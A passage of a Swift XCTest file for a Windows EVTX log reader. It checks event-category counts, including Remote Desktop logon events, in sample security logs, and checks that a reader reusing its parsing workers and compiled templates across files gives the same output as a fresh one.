            if let action = fields["action"] as? String { actions[action, default: 0] += 1 } else { uncategorised[fields["code"] as! String, default: 0] += 1 }
        }
        XCTAssertEqual(uncategorised, ["5058": 102, "5061": 102, "4608": 52, "5032": 11, "1101": 5, "5890": 4, "5152": 2, "5157": 1, "5056": 1])
        XCTAssertEqual(actions["audit-setting-changed"], 812)  // 4907
        XCTAssertEqual(actions["renamed-user-account"], 28)  // 4781
        XCTAssertEqual(actions["logging-service-shutdown"], 41)  // 1100
        XCTAssertEqual(actions["system-time-changed"], 35)  // 4616
        XCTAssertEqual(actions["logged-in"], 734)  // 4624
        // Remote Desktop in its own logs: connections accepted, failed logons (a brute force),
        // authentications, each with the client's address.
        var rdp: [String: Int] = [:], rdpWithAddress = 0
        for line in lines where line.contains("\"action\":\"remote-desktop-") {
            let event = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            rdp[(event["event"] as! [String: Any])["action"] as! String, default: 0] += 1
            if (event["source"] as? [String: Any])?["ip"] != nil { rdpWithAddress += 1 }
        }
        XCTAssertEqual(rdp, ["remote-desktop-connection-accepted": 127, "remote-desktop-logon-failed": 128, "remote-desktop-authenticated": 5])
        XCTAssertEqual(rdpWithAddress, 260)
    }

    /// One reader keeps its EVTX workers (and their compiled templates) from file to file: every
    /// file reads to the same lines and rejects as with a reader of its own, in either order.
    func testEVTXWorkersKeptAcrossFilesChangeNothing() throws {
        guard let folder = sharedFixturesURL("evtx/samples") else { throw XCTSkip("../shared/fixtures/evtx is missing: shared workers not checked") }
        let samples = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.hasSuffix(".evtx") }.sorted()
            .map { folder.appendingPathComponent($0).path }
        func read(_ path: String, with reader: InputReader) throws -> [String] {
            var items: [String] = []
            _ = try reader.read(path) { item in
                switch item {
                case .encoded(_, let line, let offset): items.append("\(offset) \(String(decoding: line, as: UTF8.self))")
                case .event(.failure(let error), let offset, _): items.append("\(offset) failure \(error)")
                case .reject(let reject): items.append("\(reject.offset) reject \(reject.reason)")
                default: items.append("unexpected item")
                }
            }
            return items
        }
        // A copy of security.evtx whose templates name an item otherwise: the same template
        // GUIDs with another shape, which must not be read with the original's compiled form.
        let renamed = try makeTemporaryFolder(self).appendingPathComponent("renamed.evtx")
        let original = Array(try Data(contentsOf: folder.appendingPathComponent("security.evtx")))
        let from = Array("SubjectUserName".utf16).flatMap { [UInt8(truncatingIfNeeded: $0), UInt8($0 >> 8)] }
        let to = Array("SubjectUserNamX".utf16).flatMap { [UInt8(truncatingIfNeeded: $0), UInt8($0 >> 8)] }
        var copy = original, replaced = 0, i = 0
        while i + from.count <= copy.count {
            if copy[i..<(i + from.count)].elementsEqual(from) { copy.replaceSubrange(i..<(i + from.count), with: to); replaced += 1 }
            i += 1
        }
        XCTAssertGreaterThan(replaced, 10)
        try Data(copy).write(to: renamed)
        let files = samples + [renamed.path]
        var alone: [String: [String]] = [:]
        for path in files { alone[path] = try read(path, with: InputReader()) }
        XCTAssertEqual(alone.values.map(\.count).reduce(0, +), 21839 + 37 + 2261)
        XCTAssertTrue(alone[renamed.path]?.contains { $0.contains("\"SubjectUserNamX\":") } ?? false)
        for order in [files, files.reversed()] {
            let shared = InputReader()
            for path in order {
                let items = try read(path, with: shared), expected = alone[path] ?? []
                XCTAssertEqual(items.count, expected.count, path)
                if let k = items.indices.first(where: { $0 < expected.count && items[$0] != expected[$0] }) {
                    XCTFail("\(path) item \(k):\n\(items[k].prefix(600))\nalone:\n\(expected[k].prefix(600))")
                }
            }
        }
    }
}
